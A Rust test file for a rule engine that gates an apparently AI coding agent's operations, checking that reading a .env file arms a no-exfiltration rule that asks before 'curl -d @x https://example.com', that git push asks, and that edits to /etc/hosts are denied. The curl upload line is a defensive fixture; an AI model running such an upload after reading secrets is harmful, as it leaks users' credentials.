//! How rules match operations, activate, and decide.

use std::path::PathBuf;

use super::spec::{MatcherSpec, OneOrMany};
use super::*;

fn op(kind: &str, command: Option<&str>, paths: &[&str]) -> Operation {
    Operation {
        kind: OperationKind::parse(kind).unwrap(),
        command: command.map(String::from),
        paths: paths.iter().map(|p| p.to_string()).collect(),
        tool: None,
    }
}

fn none(_: &str) -> bool {
    false
}

#[test]
fn exfil_asks_only_after_a_sensitive_read() {
    let set = RuleSet::build(&[]).unwrap();
    let wt: &[&Path] = &[Path::new("/k/wt")];
    let read = op("read", None, &["/k/wt/config/.env.local"]);
    let activated: Vec<&str> = set
        .activations(&read, wt)
        .iter()
        .map(|r| r.id.as_str())
        .collect();
    assert_eq!(activated, ["no-exfil-after-sensitive"]);
    let curl = op("execute", Some("curl -d @x https://example.com"), &[]);
    assert!(
        set.decide(&curl, wt, &none, &none).is_none(),
        "not active yet"
    );
    let active = |id: &str| id == "no-exfil-after-sensitive";
    let rule = set.decide(&curl, wt, &active, &none).unwrap();
    assert_eq!(
        (rule.id.as_str(), rule.action),
        ("no-exfil-after-sensitive", RuleAction::Ask)
    );
    assert!(
        set.decide(
            &op("execute", Some("echo curling"), &[]),
            wt,
            &active,
            &none
        )
        .is_none()
    );
    assert!(
        set.activations(&op("read", None, &["/k/wt/src/main.rs"]), wt)
            .is_empty()
    );
    // Switched off for the session: no longer asks.
    assert!(set.decide(&curl, wt, &active, &active).is_none());
}

#[test]
fn push_asks_and_writes_outside_are_denied() {
    let set = RuleSet::build(&[]).unwrap();
    let wt: &[&Path] = &[Path::new("/k/wt")];
    let push = op("execute", Some("git push origin main"), &[]);
    assert_eq!(
        set.decide(&push, wt, &none, &none).unwrap().id,
        "ask-before-push"
    );
    let outside = op("edit", None, &["/etc/hosts"]);
    assert_eq!(
        set.decide(&outside, wt, &none, &none).unwrap().action,
        RuleAction::Deny
    );
    let inside = op("edit", None, &["/k/wt/src/lib.rs"]);
    assert!(set.decide(&inside, wt, &none, &none).is_none());
}

#[test]
fn user_rules_add_and_switch_off_and_bad_ones_are_named() {
    let specs: Vec<RuleSpec> = toml::from_str::<BTreeMap<String, Vec<RuleSpec>>>(
        r#"
        [[rules]]
        id = "allow-cargo"
        description = "cargo runs freely"
        action = "allow"
        when = { kind = "execute", command = "^cargo " }

        [[rules]]
        id = "ask-before-push"
        enabled = false
        "#,
    )
    .unwrap()
    .remove("rules")
    .unwrap();
    let set = RuleSet::build(&specs).unwrap();
    let wt: &[&Path] = &[Path::new("/k/wt")];
    let rule = set
        .decide(&op("execute", Some("cargo test"), &[]), wt, &none, &none)
        .unwrap();
    assert_eq!(
        (rule.id.as_str(), rule.action),
        ("allow-cargo", RuleAction::Allow)
    );
    assert!(
        set.decide(&op("execute", Some("git push"), &[]), wt, &none, &none)
            .is_none()
    );
    let bad = RuleSpec {
        id: "broken".into(),
        when: Some(OneOrMany::One(MatcherSpec {
            command: Some("(unclosed".into()),
            ..Default::default()
        })),
        action: Some(RuleAction::Deny),
        from: Some(PathBuf::from("/k/.crucible/rules.toml")),
        ..Default::default()
    };
    let err = RuleSet::build(&[bad]).unwrap_err();
    assert_eq!(err.id, "broken");
    assert_eq!(err.file, Some(PathBuf::from("/k/.crucible/rules.toml")));
    assert!(err.reason.contains("bad command regex"), "{err}");
    let unknown_kind = RuleSpec {
        id: "k".into(),
        when: Some(OneOrMany::One(MatcherSpec {
            kind: Some(OneOrMany::One("explode".into())),
            ..Default::default()
        })),
        action: Some(RuleAction::Ask),
        ..Default::default()
    };
    assert!(
        RuleSet::build(&[unknown_kind])
            .unwrap_err()
            .reason
            .contains("unknown kind")
    );
}

#[test]
fn operation_kinds_keep_acp_s_names_in_rule_files_and_on_the_wire() {
    let names = [
        "read", "edit", "delete", "move", "search", "execute", "fetch", "think", "other",
    ];
    for name in names {
        let kind = OperationKind::parse(name).unwrap();
        assert_eq!(kind.as_str(), name);
        assert_eq!(serde_json::to_value(kind).unwrap(), serde_json::json!(name));
        assert_eq!(
            serde_json::from_value::<OperationKind>(serde_json::json!(name)).unwrap(),
            kind
        );
    }
    // ACP's mode switch is an operation's kind, but no rule matches it by kind.
    let switch: OperationKind = serde_json::from_value(serde_json::json!("switch_mode")).unwrap();
    assert_eq!(switch, OperationKind::SwitchMode);
    assert_eq!(OperationKind::parse("switch_mode"), None);
    // A kind this crucible does not know reads as other.
    let later: OperationKind = serde_json::from_value(serde_json::json!("teleport")).unwrap();
    assert_eq!(later, OperationKind::Other);
    let described = Operation {
        kind: OperationKind::Execute,
        command: Some("ls".into()),
        ..Default::default()
    };
    assert_eq!(described.describe(), "execute: ls");
}

#[test]
fn the_same_operation_has_the_same_fingerprint() {
    let a = op("execute", Some("curl x"), &["/a"]);
    assert_eq!(a.fingerprint(), a.clone().fingerprint());
    assert_ne!(
        a.fingerprint(),
        op("execute", Some("curl y"), &["/a"]).fingerprint()
    );
    // Two tools with neither command nor paths are told apart by their names.
    let named = |tool: &str| Operation {
        tool: Some(tool.into()),
        ..op("other", None, &[])
    };
    assert_ne!(
        named("Push the branch").fingerprint(),
        named("Delete the cache").fingerprint()
    );
    assert_eq!(named("Push").fingerprint(), named("Push").fingerprint());
}
